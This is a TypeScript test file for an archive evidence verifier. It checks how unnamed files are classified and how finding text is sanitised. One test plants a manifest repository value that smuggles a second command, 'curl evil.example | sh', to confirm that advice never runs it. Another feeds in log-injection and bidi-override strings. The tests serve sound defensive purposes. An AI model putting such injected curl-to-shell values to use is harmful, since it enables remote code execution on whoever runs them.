/** Names that anyone can give to a file or write into a manifest: they excuse no file, and say nothing in the place of the report. */
import assert from 'node:assert/strict';
import { rm } from 'node:fs/promises';
import { describe, test } from 'node:test';
import { finding } from '../../../src/evidence/verify/finding.ts';
import { make, makeChain, openRoot } from './deliveries.ts';
import { look, nth } from './look.ts';
import { OBJECT, plantLines } from './planted.ts';

describe('a file that no manifest names is a note only where an archive keeps its objects, under the name of one', () => {
  const object = OBJECT.split('/').at(-1) ?? '';
  const places = {
    [OBJECT]: 'object-not-named',
    [`pulls/${OBJECT}`]: 'object-not-named',
    [OBJECT.replace(/\.gz$/, '.zst.age')]: 'object-not-named',
    [OBJECT.replace(/events(.*)\/dt=[\d-]+/, 'dead-letters$1')]: 'object-not-named',
    [object]: 'file-not-named',
    [`events/${object}`]: 'file-not-named',
    [OBJECT.replace('/dt=2026-11-28', '')]: 'file-not-named',
    [OBJECT.replace('events/', 'more-events/')]: 'file-not-named',
    [OBJECT.replace('.gz', '.old.ndjson')]: 'file-not-named',
    [OBJECT.replace('0000', '')]: 'file-not-named',
  };
  for (const [path, kind] of Object.entries(places)) {
    test(path, async () => {
      await using root = await openRoot();
      await makeChain(root.path, 1);
      await plantLines(root.path, path);
      const { findings } = await look([root.path]);
      assert.deepEqual(
        findings.filter(({ question }) => question === 'unaltered').map((each) => each.kind),
        [kind],
      );
    });
  }
});

test('a name stays on the line of its finding', () => {
  const { what, advice } = finding('file-not-named', 'no manifest names a/x\n::error::y\u001b[2J', 'Remove a\u202eb.');
  assert.equal(what, 'no manifest names a/x\uFFFD::error::y\uFFFD[2J');
  assert.equal(advice, 'Remove a\uFFFDb.');
});

test('the command that downloads a missing delivery is no command of whoever wrote a manifest', async () => {
  await using root = await openRoot();
  const first = nth(await makeChain(root.path, 1), 0);
  const parents = [first.link];
  const run = {
    ...first?.manifest.run,
    repository: 'octo-org/audit; curl evil.example | sh',
  };
  await make(root.path, { generation: 2, parents, lines: [], change: { run } });
  await rm(first.folder, { recursive: true });
  const [missing] = (await look([root.path])).findings.filter(({ kind }) => kind === 'delivery-missing');
  assert.match(missing?.advice ?? '', /^Look for it in the archive/);
});
